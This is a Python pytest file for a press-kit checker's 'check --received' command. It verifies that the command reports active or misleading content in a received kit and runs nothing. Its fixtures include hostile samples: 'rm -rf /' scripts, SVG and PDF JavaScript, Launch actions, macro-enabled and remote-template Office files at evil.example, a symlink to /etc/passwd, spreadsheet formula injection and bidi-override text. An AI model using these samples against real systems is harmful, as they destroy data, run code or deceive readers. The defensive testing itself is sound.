"""check --received: what a stranger's kit would do, told before anything of it is done."""

from __future__ import annotations

import io
import json
import os
import socket
import subprocess
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from presskit import RequestError, limits, received
from presskit.store.journal import JOURNAL, STAGE
from presskit.usecases.received import Fact
from tests.commands.conftest import Run
from tests.commands.test_zipped_kit import files_of, packed
from tests.importing.word_files import RELATIONS, TYPES, W
from tests.importing.word_files import zipped as office

SVG = '<svg xmlns="http://www.w3.org/2000/svg">{}</svg>'
TEXT = f'<?xml version="1.0"?><w:document xmlns:w="{W}"><w:body/></w:document>'
REMOTE = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" Target="{target}" {mode}/></Relationships>'
)
SERVER = """\
mail:
  from: press@evil.example
  reply_to: answers@evil.example
  unsubscribe: https://evil.example/u
  server: {host: smtp.evil.example, user: me, security: none}
  rate: 600
"""
ACCEPTED = """\
questions:
  - id: a1
    kind: finding
    asked: "a warning"
    place: {file: kit.yaml}
    choices: [{key: accept, label: it is right}]
    answer: {choice: accept, by: Mallory, when: 2026-01-01T00:00:00+00:00, reason: so}
"""


ASKED = """\
questions:
  - id: q1
    kind: consent
    asked: "All well?"
    place: {{file: kit.yaml}}
    choices: [{{key: ok, label: it is, edits: [{{file: {}, kind: set, at: mail, text: "mail: {{from: a@evil.example}}"}}]}}]
"""


def photo() -> bytes:
    """Return a photograph that says where, with what and by whom it was taken."""
    from PIL import Image

    image, out = Image.new("RGB", (60, 40)), io.BytesIO()
    exif = image.getexif()
    exif.get_ifd(0x8825).update({1: "N", 2: (36.0, 12.0, 0.0), 3: "E", 4: (37.0, 9.0, 0.0)})
    exif[0x8825], exif[0x10F], exif[0x13B] = exif.get_ifd(0x8825), "Canon", "Jane Witness"
    image.save(out, "JPEG", exif=exif)
    return out.getvalue()


def word(**parts: str | bytes) -> bytes:
    named = {name.replace("__", "/").replace("_dot_", "."): data for name, data in parts.items()}
    return office({"[Content_Types].xml": TYPES, "_rels/.rels": RELATIONS, "word/document.xml": TEXT, **named})


def word_with(kind: str, target: str, mode: str = 'TargetMode="External"') -> bytes:
    relations = REMOTE.format(kind=kind, target=target, mode=mode)
    return office(
        {"[Content_Types].xml": TYPES, "_rels/.rels": RELATIONS, "word/document.xml": TEXT, "word/_rels/document.xml.rels": relations}
    )


def added(name: str, data: bytes | str) -> Callable[[Path], None]:
    def add(kit: Path) -> None:
        path = kit / name
        path.parent.mkdir(parents=True, exist_ok=True)
        with path.open("ab") as file:
            file.write(data.encode() if isinstance(data, str) else data)

    return add


ACTION = {"/S": "/JavaScript", "/JS": "(app.alert(1))"}


def pdf(attached: str = "", **catalog: object) -> bytes:
    """Return a PDF with an attached file, and these entries in its catalog."""
    import pikepdf

    made, out = pikepdf.new(), io.BytesIO()
    made.add_blank_page()
    for key, value in catalog.items():
        made.Root[f"/{key}"] = _as_object(value)
    if attached:
        made.attachments[attached] = pikepdf.AttachedFileSpec(made, b"MZ", filename=attached)
    made.save(out)
    return out.getvalue()


def _as_object(value: object) -> object:
    import pikepdf

    if isinstance(value, dict):
        return pikepdf.Dictionary({key: _as_object(each) for key, each in value.items()})
    text = str(value)
    return pikepdf.Name(text) if text.startswith("/") else pikepdf.String(text)


FORMULAS = office({
    "[Content_Types].xml": TYPES, "_rels/.rels": RELATIONS, "xl/workbook.xml": "<workbook/>",
    "xl/worksheets/sheet1.xml": '<worksheet><c><f>1+1</f></c><c><f t="shared"/></c><c><v>1</v></c><font/></worksheet>',
})  # fmt: skip
ACTING: dict[str, tuple[Callable[[Path], None], str, str]] = {
    "server": (added("kit.yaml", SERVER), "e-mail", "smtp.evil.example:25, without encryption, logged in as «me», up to 600 a minute"),
    "sender": (added("kit.yaml", SERVER), "e-mail", "answers would go to answers@evil.example"),
    "unsubscribe": (added("kit.yaml", SERVER), "e-mail", "https://evil.example/u"),
    "media list": (added("media-list.csv", "E-mail\na@b.example\n"), "people", "whom presskit mail would write to"),
    "old media list": (added("press-list.xlsx", office({})), "people", "whom presskit mail would write to"),
    "ledger": (added("mail/ledger.sqlite", b"SQLite format 3\0"), "records of sending", "would go on from there"),
    "script": (added("a.svg", SVG.format("<script>alert(1)</script>")), "active content", "<script"),
    "foreign object": (added("p/a.svg", SVG.format("<foreignObject/>")), "active content", "<foreignObject"),
    "event": (added("a.svg", SVG.format('<rect onload="x()"/>')), "active content", "onload"),
    "fetches": (added("a.svg", SVG.format('<image href="https://evil.example/a.png"/>')), "active content", "href=https://evil"),
    "entity": (added("a.svg", "<!DOCTYPE svg [<!ENTITY a 'b'>]>" + SVG.format("&a;")), "active content", "<!ENTITY"),
    "page": (added("index.html", "<script>"), "active content", "would run it"),
    "program": (added("tools/run.sh", "rm -rf /"), "active content", "would run it"),
    "template": (added("release.html.j2", "{{ 9**9**9 }}"), "templates", "works like a program"),
    "styles": (added("mine/release.css", "@import url(https://evil.example)"), "templates", "works like a program"),
    "macros": (
        added("a.docm", word(**{"[Content_Types].xml": TYPES.replace("document.main+xml", "document.macroEnabled.main+xml")})),
        "Office file",
        "has macros",
    ),
    "macros in a part": (added("a.docx", word_with("vbaProject", "vbaProject.bin", "")), "Office file", "holds macros"),
    "remote template": (
        added("a.docx", word_with("attachedTemplate", "https://evil.example/t.dotm")),
        "Office file",
        "would fetch «https://evil.example/t.dotm» (attachedTemplate)",
    ),
    "remote picture": (added("a.docx", word_with("image", "file://host/a.png")), "Office file", "would fetch «file://host/a.png»"),
    "object": (added("a.xlsx", word_with("oleObject", "o.bin", "")), "Office file", "an embedded object"),
    "old Office file": (added("a.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)), "Office file", "before 2007"),
    "broken Office file": (added("a.docx", b"PK\x03\x04"), "Office file", "damaged"),
    "script in a PDF": (added("a.pdf", pdf(OpenAction=ACTION)), "active content", "an action of the kind JavaScript"),
    "program in a PDF": (added("a.bin", pdf(AA={"/O": {**ACTION, "/S": "/Launch"}})), "active content", "of the kind Launch"),
    "file in a PDF": (added("a.pdf", pdf(attached="run.exe")), "active content", "carries the file «run.exe»"),
    "broken PDF": (added("a.pdf", b"%PDF-1.7"), "active content", "cannot be looked into"),
    "ELF": (added("photo.png", b"\x7fELF\2\1\1"), "active content", "a program for Linux"),
    "PE": (added("notes.txt", b"MZ\x90\0"), "active content", "a program for Windows"),
    "Mach-O": (added("notes", b"\xcf\xfa\xed\xfe"), "active content", "a program for macOS"),
    "script by content": (added("readme", b"#!/bin/sh\nrm -r /\n"), "active content", "a script (#!)"),
    "formulas": (added("a.csv", 'Name,Note\nAmal,"=HYPERLINK(""a"")"\nB,+44 20\nC,-\nD,@amal\n'), "active content", "1 cell that"),
    "formulas of a workbook": (added("a.xlsx", FORMULAS), "Office file", "2 cells with a formula"),
    "accepted": (added("questions.yaml", ACCEPTED), "questions", "1 accepted warning in it, by Mallory"),
    "history": (added(".presskit/history/000001.json", "{}"), "hidden", "presskit undo would put back"),
    "interrupted": (
        added(f"{STAGE}/{JOURNAL}", json.dumps([["kit.yaml", 0, True, True], ["statement.en.md", 1, False, True]])),
        "hidden",
        "it changes kit.yaml, statement.en.md",
    ),
    "broken journal": (added(f"{STAGE}/{JOURNAL}", "[" * 100_000), "hidden", "a change that was interrupted"),
    "Git": (added(".git/hooks/pre-commit", "rm"), "hidden", "programs that Git may run"),
    "hidden file": (added("photos/.secret", "x"), "hidden", "is hidden"),
    "outputs": (added("build/.presskit-manifest.json", "{}"), "outputs", "take the files there for its own"),
    "no kit.yaml": (lambda kit: (kit / "kit.yaml").unlink(), "unreadable", "cannot be told"),
}
ACTING |= {
    "wording of a mail": (
        added("kit.yaml", 'phrases: {en: {mail_unsubscribe: "Write to https://evil.example to be left out"}}\n'),
        "wording",
        "an e-mail would say «Write to https://evil.example to be left out», in en (mail_unsubscribe)",
    ),
    "wording with an address": (
        added("kit.yaml", 'phrases: {en: {ends: "See evil.example: www.evil.example"}}\n'), "wording", "an output would say «See evil",
    ),
    "name of the sender": (added("kit.yaml", "mail: {name: The Prime Minister}\n"), "e-mail", "the sender's name «The Prime Minister»"),
    "an override": (added("statement.en.md", "\nCall \u202e1500\u202c now. {#x}\n"), "invisible characters", "RIGHT-TO-LEFT OVERRIDE"),
    "an open isolate": (added("statement.en.md", "\nCall \u20671500 now. {#x}\n"), "invisible characters", "does not end"),
    "tags": (added("statement.en.md", "\nCall \U000e0049 now. {#x}\n"), "invisible characters", "TAG LATIN CAPITAL LETTER I"),
    "a zero width space": (added("statement.en.md", "\nCall\u200b now. {#x}\n"), "invisible characters", "ZERO WIDTH SPACE"),
    "questions": (added("questions.yaml", ASKED.format("kit.yaml")), "questions", "an answer to «q1» would change kit.yaml (mail)"),
    "a question about other files": (
        added("questions.yaml", ASKED.format(".git/config")), "questions", "cannot be taken as it stands: an answer would change «.git/config»",
    ),
    "a drawing as a photo": (added("a.jpg", SVG.format("<script/>")), "pictures", "which could act"),
    "no picture": (added("a.gif", b"GIF89a/*<script>"), "pictures", "is no picture that can be read"),
    "a name that is turned": (added("inv\u202efdp.txt", "x"), "hidden", "its name holds characters that are not shown"),
    "a folder that fetches its picture": (added("desktop.ini", "[.ShellClassInfo]\n"), "active content", "it may act"),
    "a ZIP file by its content": (added("notes.bin", b"PK\x03\x04"), "active content", "holds other files"),
} | {
    f"a file {name}": (added(name, b"x"), "active content", words)
    for words, names in (
        ("not read by presskit; opened by another program it may act", (
            "a.slk a.iqy a.reg a.scf a.library-ms a.rtf a.zip a.ods a.SLK a.docm a.xlsm Makefile a.command a.vbe a.iso a.svgz photos/a.search-ms"
        )),
        ("would run it", "a.lnk a.url a.hta a.js a.vbs a.ps1 a.bat a.cmd a.exe a.msi a.exe."),
    )
    for name in names.split()
}  # fmt: skip
"""What acts, by name: how it is made, its topic, and words that it is told in."""
LEADING: dict[str, tuple[Callable[[Path], None], str, str, str]] = {
    "address of a contact": (
        added("contacts.yaml", ""), "addresses", "contacts.yaml:2:5", "journalists would reach «Press desk» by press@example.org, +44 20 7946 0958",
    ),
    "bare address": (
        added("statement.en.md", "\nSee https://evil.example/x. {#x}\n"), "addresses", "statement.en.md:{}:5", "the text names https://evil.example/x",
    ),
    "address in a comment": (added("kit.yaml", "# at evil@evil.example\n"), "addresses", "kit.yaml:{}:6", "the text names evil@evil.example"),
    "wording": (added("kit.yaml", "phrases: {en: {ends: This is all}}\n"), "wording", "kit.yaml:{}:22", "an output would say «This is all», in en (ends)"),
    "embargo": (
        added("kit.yaml", "embargo: {until: 2027-01-14 06:00, zone: Europe/Paris}\n"), "embargo", "kit.yaml:{}:10",
        "nothing may be published before 2027-01-14 06:00, Europe/Paris",
    ),
    "place and names in a photo": (added("p/a.jpg", photo()), "pictures", "p/a.jpg", "tells where it was taken, the camera"),
}  # fmt: skip
"""What only leads elsewhere, or tells more than it shows, with its place."""
IN_FOLDERS: dict[str, tuple[Callable[[Path], None], str, str]] = {
    "link out": (lambda kit: (kit / "a.png").symlink_to("/etc/passwd"), "links", "leads to /etc/passwd, out of the folder"),
    "folder out": (lambda kit: (kit / "photos").symlink_to("/etc"), "links", "out of the folder"),
    "circle": (lambda kit: (kit / "a.png").symlink_to("../a.png"), "links", "out of the folder"),
    "pipe": (lambda kit: os.mkfifo(kit / "contacts2.yaml"), "links", "is not opened"),
}


def acting(path: Path) -> list[Fact]:
    return [each for each in received(path).facts if each.acts]


def state(folder: Path) -> list[tuple[str, int, int]]:
    facts = [(path, path.lstat()) for path in sorted(folder.rglob("*"))]
    return [(str(path), each.st_mtime_ns, each.st_size) for path, each in facts]


@pytest.mark.parametrize("name", [*ACTING, *IN_FOLDERS])
def test_what_would_act_is_told(run: Run, kit: Path, name: str) -> None:
    make, topic, words = {**ACTING, **IN_FOLDERS}[name]
    make(kit)
    before = state(kit)
    told = [each.message for each in acting(kit) if each.topic == topic]
    assert [each for each in told if words in each], acting(kit)
    ended = run("check", "--received", kit)
    assert ended.code == 1
    assert words in ended.out
    assert state(kit) == before


@pytest.mark.parametrize("name", [each for each in ACTING if not each.endswith(".")])  # a ZIP file with such a name is refused
def test_a_zip_tells_the_same_as_its_folder(kit: Path, tmp_path: Path, name: str) -> None:
    ACTING[name][0](kit)
    path = packed({f"kit/{file}": data for file, data in files_of(kit).items()}, tmp_path / "kit.zip")
    assert received(path).facts == received(kit).facts
    assert received(path).files == received(kit).files


@pytest.mark.parametrize("name", LEADING)
def test_where_it_leads_is_told_with_its_place(run: Run, kit: Path, name: str) -> None:
    make, topic, place, words = LEADING[name]
    make(kit)
    file = place.partition(":")[0]
    lines = len((kit / file).read_bytes().splitlines())
    told = [(str(each.span), each.message) for each in received(kit).facts if each.topic == topic]
    assert [where for where, message in told if message.startswith(words)] == [place.format(lines)], told
    ended = run("check", "--received", kit)
    assert ended.code == 0
    assert "nothing in it acts; read what it says above" in ended.out
    assert "or leads elsewhere" not in ended.out


def test_only_a_kit_that_leads_nowhere_is_said_to(run: Run, kit: Path) -> None:
    (kit / "contacts.yaml").unlink()
    for file in kit.iterdir():
        file.write_text("\n".join(line for line in file.read_text("utf-8").split("\n") if "http" not in line), "utf-8")
    ended = run("check", "--received", kit)
    assert ended.code == 0
    assert "nothing in it acts or leads elsewhere" in ended.out, ended.out


def test_what_answers_would_change_is_told_first(run: Run, kit: Path) -> None:
    added("questions.yaml", ASKED.format("kit.yaml"))(kit)
    added("kit.yaml", SERVER)(kit)
    first = received(kit).facts[0]
    assert (first.topic, str(first.span), first.acts) == ("questions", "questions.yaml:2:5", True)


def test_a_plain_kit_acts_in_nothing(run: Run, kit: Path) -> None:
    (kit / "notes.txt").write_text("x", "utf-8")
    (kit / ".DS_Store").write_bytes(b"x")
    (kit / "logo.svg").write_text(SVG.format("<rect/>"), "utf-8")
    (kit / "same.png").symlink_to("logo.svg")
    (kit / "a.docx").write_bytes(word_with("hyperlink", "https://bridge.example"))
    ended = run("check", "--received", kit)
    assert ended.code == 0, ended.out
    assert "nothing in it acts" in ended.out
    assert {"notes.txt", "logo.svg", "kit.yaml", "a.docx"} <= {each.name for each in received(kit).files}
    assert {each.topic.value for each in received(kit).facts} >= {"not read", "hidden", "links", "people"}


def test_it_is_told_as_json(run: Run, kit: Path) -> None:
    added("kit.yaml", SERVER)(kit)
    ended = run("check", "--received", kit, "--json")
    plain = json.loads(ended.out)
    assert plain["exit"] == ended.code == 1
    assert {each["topic"] for each in plain["facts"] if each["acts"]} == {"e-mail"}
    assert all(each["file"] == "kit.yaml" and each["line"] for each in plain["facts"] if each["acts"])
    assert {each["name"]: each["use"] for each in plain["files"]}["kit.yaml"] == "text of the kit"


def test_what_cannot_be_listed_is_bad_input(run: Run, kit: Path, tmp_path: Path) -> None:
    assert run("check", "--received", tmp_path / "nowhere").code == 2
    (tmp_path / "a.zip").write_bytes(b"no zip")
    ended = run("check", "--received", tmp_path / "a.zip")
    assert ended.code == 2
    assert "zip-refused" in ended.out
    assert run("check", "--received", kit, kit).code == 2
    assert run("check", "--received", kit, "--html", tmp_path / "a.html").code == 2
    with pytest.raises(RequestError):
        received("")


def test_endless_folders_are_not_walked(run: Run, kit: Path) -> None:
    made = kit
    for _ in range(60):
        made /= "d"
        made.mkdir()
    ended = run("check", "--received", kit)
    assert ended.code == 2
    assert "kit-too-large" in ended.out


def test_names_of_files_do_not_act_on_the_terminal(run: Run, kit: Path) -> None:
    (kit / "a\x1b[2Jb\n\u202ec.png").write_bytes(b"x")
    (kit / "link").symlink_to(os.fsdecode(b"/nowhere/\x1b[31m\xff"))
    ended = run("check", "--received", kit)
    assert ended.code == 1
    assert "\x1b" not in ended.out
    assert "\nb" not in ended.out
    assert "b\\n" in ended.out
    assert "\u202e" not in ended.out
    assert run("check", "--received", kit, "--json").code == 1


def test_an_interrupted_change_is_left_as_it_is(run: Run, kit: Path) -> None:
    added(f"{STAGE}/{JOURNAL}", json.dumps([["kit.yaml", 0, False, True]]))(kit)
    assert run("check", "--received", kit).code == 1
    assert (kit / "kit.yaml").is_file()
    assert (kit / STAGE / JOURNAL).is_file()


def test_nothing_is_run_or_connected_to(kit: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    for make, _, _ in ACTING.values():
        if make is not ACTING["no kit.yaml"][0]:
            make(kit)

    def refuse(*_: object, **__: object) -> None:
        raise AssertionError("received ran or connected to something")

    monkeypatch.setattr(socket, "socket", refuse)
    begin = subprocess.Popen

    def only_workers(command: list[str], **options: Any) -> subprocess.Popen[bytes]:
        assert "presskit.sandbox.worker" in command
        return begin(command, **options)

    monkeypatch.setattr(subprocess, "Popen", only_workers)
    monkeypatch.setattr(os, "replace", refuse)
    monkeypatch.setattr(os, "unlink", refuse)
    assert len(acting(kit)) > 15


def test_many_office_files_are_not_all_looked_into(kit: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("presskit.limits.RECEIVED_OFFICE_FILES", 2)
    for number in range(3):
        (kit / f"{number}.docx").write_bytes(word())
    (told,) = acting(kit)
    assert (told.span.source, told.message) == ("2.docx", "is not looked into: there are too many such files")


def test_long_lists_of_relations_are_not_parsed(kit: Path) -> None:
    one = '<Relationship Id="r{0}" Type="x/image" Target="https://evil.example/{0}" TargetMode="External"/>'
    head = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    rels = head + "".join(map(one.format, range(100_000))) + "</Relationships>"
    parts: dict[str, str | bytes] = {"[Content_Types].xml": TYPES, "_rels/.rels": RELATIONS, "word/_rels/document.xml.rels": rels}
    assert len(rels) > limits.RECEIVED_RELATIONS_BYTES
    (kit / "a.docx").write_bytes(office({"word/document.xml": TEXT, **parts}))
    (told,) = acting(kit)
    assert "longer lists of relations" in told.message


def test_pictures_are_looked_into_up_to_a_sum(kit: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("presskit.limits.RECEIVED_FILES_BYTES", 100)
    (kit / "a.svg").write_text(SVG.format(""), "utf-8")
    (kit / "b.svg").write_text(SVG.format("<script/>"), "utf-8")
    (told,) = acting(kit)
    assert told.span.source == "b.svg"
    assert "not looked into" in told.message


def test_a_zip_with_junk_names_what_is_left_out(kit: Path, tmp_path: Path) -> None:
    path = packed({**files_of(kit), "__MACOSX/._kit.yaml": b"x", ".presskit/objects/aa/bb": b"x"}, tmp_path / "kit.zip")
    told = {each.span.source: each.message for each in received(path).facts}
    assert "operating system" in told["__MACOSX/._kit.yaml"]
    assert "undo" in told[".presskit/"]
    assert zipfile.is_zipfile(path)
